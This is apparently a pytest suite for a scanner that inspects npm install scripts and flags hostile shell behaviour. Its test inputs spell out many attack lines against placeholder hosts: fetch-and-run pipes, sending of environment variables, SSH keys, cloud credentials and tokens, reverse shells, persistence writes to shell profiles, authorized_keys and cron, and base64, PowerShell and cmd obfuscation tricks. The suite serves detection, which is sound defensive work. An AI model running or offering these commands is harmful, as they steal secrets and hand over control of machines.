"""Shell lines are read by what they do: what they start, fetch, send, write and follow."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatekeeper.evidence._base import Ledger
from gatekeeper.evidence._shell import ShellReader
from gatekeeper.evidence._shell_managers import differs_on_windows
from gatekeeper.evidence._shell_state import Spot
from gatekeeper.model import Behaviour, When


class Remembering:
    """Stands for the reader of JavaScript, and remembers what it was asked to read."""

    def __init__(self) -> None:
        self.files: list[str] = []
        self.codes: list[str] = []

    def read_file(self, path: str, when: When, why: str, *, always: bool = True) -> None:
        self.files.append(path)

    def read_code(self, code: bytes, path: str, line: int, when: When) -> None:
        self.codes.append(code.decode())


def reader(files: dict[str, str] | None = None) -> tuple[ShellReader, Remembering]:
    contents = {path: text.encode() for path, text in (files or {}).items()}
    shell = ShellReader(Ledger(), contents.keys(), contents.get)
    shell.js = remembering = Remembering()
    return shell, remembering


def read(line: str, files: dict[str, str] | None = None) -> tuple[ShellReader, Remembering]:
    shell, js = reader(files)
    spot = Spot("package.json", 1, When.INSTALL, snippet=line)
    shell.run_posix(line, spot)
    if differs_on_windows(line):
        shell.run_windows(line, spot)
    return shell, js


def does(line: str, files: dict[str, str] | None = None) -> list[Behaviour]:
    return list(read(line, files)[0].ledger.behaviours.values())


def of_kind(line: str, kind: str, files: dict[str, str] | None = None) -> dict[str, set[str]]:
    return {one.detail: set(one.taints) for one in does(line, files) if one.kind == kind}


def mark_ids(line: str) -> set[str]:
    return {mark.id for one in does(line) for mark in one.marks}


@pytest.mark.parametrize(
    "line",
    [
        "curl -s http://a.example/x | sh",
        "curl -s http://a.example/x | sudo bash -s -- -y",
        "wget -qO- http://a.example/x | bash",
        "bash <(curl -s http://a.example/x)",
        'sh -c "$(curl -fsSL http://a.example/x)"',
        'eval "$(wget -O - http://a.example/x)"',
        "X=$(curl -s http://a.example/x); eval $X",
        'node -e "$(curl -s http://a.example/x)"',
        "curl http://a.example/x | node",
        "curl http://a.example/x | python3 -",
        "C=cu; ${C}rl http://a.example/x | s''h",
        "source <(curl -s http://a.example/x)",
        'cur\\l http://a.example/x | "sh"',
        "go() { curl $1; }; go http://a.example/x | sh",
        "if [ -x /bin/sh ]; then curl http://a.example/x | sh; fi",
    ],
)
def test_code_from_the_network_that_runs_is_seen(line: str) -> None:
    assert any("network" in taints for taints in of_kind(line, "exec").values())


@pytest.mark.parametrize(
    "line",
    [
        "curl -o /tmp/a http://a.example/x && chmod +x /tmp/a && /tmp/a",
        "wget http://a.example/a; sh a",
        "cd /tmp; curl -sLO http://a.example/a; ./a &",
        "curl http://a.example/x > /tmp/a; bash /tmp/a",
        "wget --output-document=/tmp/a http://a.example/x || exit 1; /tmp/a",
        "curl --output /tmp/a --url http://a.example/x && node /tmp/a",
    ],
)
def test_a_file_that_is_fetched_and_started_is_both(line: str) -> None:
    written = [detail for detail, taints in of_kind(line, "write").items() if "network" in taints]
    assert written
    name = written[0].rpartition("/")[2]
    assert any(name in spawn.split("/")[-1] and "curl" not in spawn and "wget" not in spawn
               for spawn in of_kind(line, "spawn"))  # fmt: skip


@pytest.mark.parametrize(
    ("line", "taint"),
    [
        ("whoami | curl -d @- http://a.example", "fingerprint"),
        ("id | nc a.example 4444", "fingerprint"),
        ("env | curl -X POST --data-binary @- http://a.example", "environment-all"),
        ("printenv | base64 | curl -d @- http://a.example", "environment-all"),
        ("curl -F 'f=@/home/x/.ssh/id_rsa' http://a.example", "secret"),
        ("cat ~/.aws/credentials | curl -T - http://a.example", "secret"),
        ('curl -H "a: $NPM_TOKEN" -d x http://a.example', "secret"),
        ("wget --post-file=/etc/shadow http://a.example", "secret"),
        ('D=$(env); curl -d "$D" http://a.example', "environment-all"),
        ("gh auth token | curl -d @- http://a.example", "secret"),
    ],
)
def test_what_is_sent_is_known(line: str, taint: str) -> None:
    assert any(taint in taints for taints in of_kind(line, "send").values()), does(line)


def test_what_stands_in_an_address_is_sent_too() -> None:
    assert any(
        "fingerprint" in taints for taints in of_kind("U=$(whoami); curl http://a.example/$U", "network").values()
    )
    assert any("fingerprint" in taints for taints in of_kind("nslookup $(hostname).a.example", "lookup").values())


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("echo x >> ~/.bashrc", "~/.bashrc"),
        ("echo x | tee -a $HOME/.zshrc", "~/.zshrc"),
        ("cp a.sh ~/.config/autostart/a.desktop", "~/.config/autostart/a.desktop"),
        ("cat > .git/hooks/post-commit <<EOF\nhi\nEOF\n", ".git/hooks/post-commit"),
        ("D=~/.ssh; echo key >> $D/authorized_keys", "~/.ssh/authorized_keys"),
        ("{ echo a; echo b; } > /etc/cron.d/a", "/etc/cron.d/a"),
        ("sed -i s/a/b/ ~/.profile", "~/.profile"),
        ("for f in .bashrc .zshrc; do echo x >> ~/$f; done", "~/.zshrc"),
    ],
)
def test_what_is_written_is_known(line: str, path: str) -> None:
    found = [one for one in does(line) if one.kind == "write" and one.detail == path]
    assert found
    assert found[0].marks


def test_output_that_goes_nowhere_is_not_written() -> None:
    assert not of_kind("command -v node >/dev/null 2>&1 || echo missing >&2", "write")


def test_hidden_lines_are_read_as_a_layer() -> None:
    hidden = base64.b64encode(b"id > /tmp/a").decode()
    for line in (f"echo {hidden} | base64 -d | sh", f'eval "$(echo {hidden} | base64 --decode)"',
                 f'bash -c "$(base64 -d <<< {hidden})"', "printf '\\x69\\x64 > /tmp/a' | sh",
                 "$'\\x69\\x64' > /tmp/a", "echo 'a/pmt/ > di' | rev | sh"):  # fmt: skip
        assert any(detail.startswith("id >") or "id" in detail for detail in of_kind(line, "spawn")), (line, does(line))
    assert any("layer" in taints for taints in of_kind(f"echo {hidden} | base64 -d | sh", "spawn").values())


def test_a_raw_connection_is_seen_however_it_is_written() -> None:
    for line in ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "sh -c 'exec 3<>/dev/tcp/192.0.2.1/9'",
                 'H=192.0.2.1; bash -c "cat < /dev/tcp/$H/9"', "nc -e /bin/sh 192.0.2.1 9"):  # fmt: skip
        assert mark_ids(line) & {"dev-tcp", "interactive-shell", "netcat-exec"}, does(line)
    assert "192.0.2.1:9 raw" in of_kind("nc 192.0.2.1 9", "network")


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("node a", "a.js"),
        ("node ./lib", "lib/index.js"),
        ("cross-env A=1 node lib/b.mjs", "lib/b.mjs"),
        ("node -r ./a lib/b.mjs", "a.js"),
        ("NODE_OPTIONS='--require ./a.js' node -v", "a.js"),
        ("sh run.sh", "a.js"),
        ("./run.sh", "a.js"),
        ("cd lib && node b.mjs", "lib/b.mjs"),
        ("bash -c 'node a.js'", "a.js"),
        ("test -f a.js && node a.js || true", "a.js"),
        ("bun run a.js", "a.js"),
        ("node a.js > log 2>&1 &", "a.js"),
        ("nohup node a.js &", "a.js"),
        ("xargs node < list || node a.js", "a.js"),
        ("npm run other", "a.js"),
        ("yarn other", "a.js"),
        ("run-s other", "a.js"),
        ("npm-run-all -p 'ot*'", "a.js"),
        ("npx cross-env A=1 node a.js", "a.js"),
        ("start /B node a.js", "a.js"),
        ("call win.bat", "a.js"),
        ("cmd /c win.bat", "a.js"),
        ("if exist a.js (node a.js)", "a.js"),
        ("node --run other", "a.js"),
    ],
)  # fmt: skip
def test_lines_are_followed_into_the_package(line: str, wanted: str) -> None:
    files = {
        "package.json": '{"scripts": {"other": "node a.js"}}',
        "a.js": "", "lib/index.js": "", "lib/b.mjs": "", "run.sh": "#!/bin/sh\nnode a.js\n", "win.bat": "@echo off\r\nnode a.js\r\n",
    }  # fmt: skip
    assert wanted in read(line, files)[1].files


def test_code_in_a_line_is_read_as_code() -> None:
    assert read("node -e \"require('./a')\"")[1].codes == ["require('./a')"]
    assert read("node -p 'process.version'")[1].codes == ["process.version"]
    assert read("echo 'f()' | node")[1].codes == ["f()\n"] or read("echo 'f()' | node")[1].codes == ["f()"]
    assert "id > /tmp/a" in of_kind("python3 -c \"import os; os.system('id > /tmp/a')\"", "spawn")


def test_a_script_that_runs_itself_ends() -> None:
    files = {"package.json": '{"scripts": {"a": "npm run b", "b": "npm run a"}}', "x.sh": "sh x.sh\n"}
    read("npm run a; sh x.sh", files)


def test_python_files_are_read_by_the_reader_of_python() -> None:
    files = {"a.py": "import os\nos.system('whoami')\n"}
    assert "whoami" in of_kind("python a.py", "spawn", files)


def test_what_lies_in_another_package_is_not_taken_for_clean() -> None:
    shell, _ = read("node ../other/run.js")
    assert list(shell.ledger.unread) == ["../other/run.js"]
    shell, _ = read("node missing.js || true")
    assert not shell.ledger.unread


def test_programs_and_other_languages_are_not_taken_for_clean() -> None:
    shell, _ = reader()
    contents = {"bin/tool": b"\x7fELF\0\0", "a.rb": b"puts 1"}
    shell = ShellReader(Ledger(), contents.keys(), contents.get)
    shell.run_posix("./bin/tool && ruby a.rb", Spot("package.json", 1, When.INSTALL))
    assert set(shell.ledger.unread) == {"bin/tool", "a.rb"}


@pytest.mark.parametrize(
    "line",
    [
        "node-gyp rebuild", "prebuild-install || node-gyp rebuild --release", "node install.js || nodejs install.js",
        "husky install", "patch-package", "tsc -p .", "echo 'curl http://a.example | sh'", "npx only-allow pnpm",
        "rimraf dist && npm run build", "[ -d .git ] && husky || true", "mkdir -p build; cp -r src build",
        "node -e \"console.log('run: curl http://a.example | sh')\"", "exit 0", "(node x || true)",
    ],
)  # fmt: skip
def test_ordinary_lines_match_nothing(line: str) -> None:
    assert mark_ids(line) <= {"interpreter-line", "shell-program"}, does(line)
    assert not [one for one in does(line) if one.kind in {"network", "send", "exec"}]


def test_an_encoded_line_of_powershell_is_decoded() -> None:
    code = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
    encoded = base64.b64encode(code.encode("utf-16-le")).decode()
    found = does(f"powershell -NoP -enc {encoded}")
    assert any(one.kind == "network" and one.detail == "http://a.example/x" for one in found)
    assert any(one.kind == "exec" and "network" in one.taints for one in found)


def test_variables_of_cmd_are_expanded_letter_by_letter() -> None:
    files = {
        "a.bat": "@echo off\nset x=certuilbo\n%x:~0,4%%x:~4,1%%x:~5,1%%x:~6,1% -urlcache -f http://a.example/a b.exe\n"
    }
    shell, _ = read("a.bat", files)
    assert shell.ledger.surfaces["a.bat"].when is When.INSTALL
    assert any("http://a.example/a" in one.detail for one in shell.ledger.behaviours.values()), shell.ledger.behaviours


def test_carets_of_cmd_hide_nothing() -> None:
    assert "transfer" in mark_ids("c^ert^util -urlc^ache -f http://a.example/a a.exe")


def test_a_line_that_only_windows_reads_so_is_read_so() -> None:
    assert "powershell-hidden" in mark_ids("echo ' & powershell -enc aQBkAA== & '")


@given(st.text(alphabet="abx $(){}[]<>|&;'\"`\\\n%^=~!*?#-./0", max_size=200))
@settings(max_examples=150, deadline=None)
def test_no_text_stops_the_reader(line: str) -> None:
    read(line, {"a": "", "x": "x"})


@pytest.mark.parametrize(
    "line",
    ["(" * 3000, "$(" * 2000 + "id" + ")" * 2000, "a;" * 20000, "if true; then " * 500, "x=$x$x;" * 300,
     "for a in 1 2 3 4 5 6 7 8; do " * 20 + "id" + "; done" * 20, "{ " * 1000, '"$(' * 500, "a|" * 5000, "sh -c '" * 200,
     "set a=%a%%a%& " * 300, "f() { f; f; }; f"],
)  # fmt: skip
def test_hostile_lines_end(line: str) -> None:
    read(line)
    shell, _ = reader({"a.bat": line})
    shell.run_windows(line, Spot("a.bat", 1, When.INSTALL), lines=True)


def test_a_command_of_other_code_is_not_noted_twice() -> None:
    shell, _ = reader({"x.sh": "id > /tmp/a\n"})
    shell.command("sh x.sh", "lib/a.js", 3, When.INSTALL, frozenset())
    kinds = {(one.kind, one.file) for one in shell.ledger.behaviours.values()}
    assert ("spawn", "lib/a.js") not in kinds
    assert ("spawn", "x.sh") in kinds
    shell.command("curl -o a http://a.example; sh a", "lib/a.js", 4, When.INSTALL, frozenset())
    assert any(one.detail == "sh a" for one in shell.ledger.behaviours.values())


def test_a_long_script_is_read_piece_by_piece_with_its_own_lines() -> None:
    script = "#!/bin/sh\n" + "if [ -f a ]; then\n  echo hello\nfi\n\n" * 600 + "id > /tmp/a\n"
    shell, _ = read("sh long.sh", {"long.sh": script})
    found = [one for one in shell.ledger.behaviours.values() if one.kind == "spawn" and one.detail.startswith("id")]
    assert [one.line for one in found] == [2402]
    assert found[0].snippet == "id > /tmp/a"
    assert not shell.ledger.unread


@pytest.mark.parametrize(
    "unit", ["a|", ")(()", "\\a `<", ">", "\n\ncase ", "<&", "((()", "'<!(", "=|", ";&)(", "!a\ncase !case "]
)
def test_parsing_ends_soon_however_broken_a_script_is(unit: str) -> None:
    started = time.monotonic()
    shell, _ = reader()
    shell.run_posix(unit * (100_000 // len(unit)), Spot("a.sh", 1, When.INSTALL), lines=True)
    assert time.monotonic() - started < 30
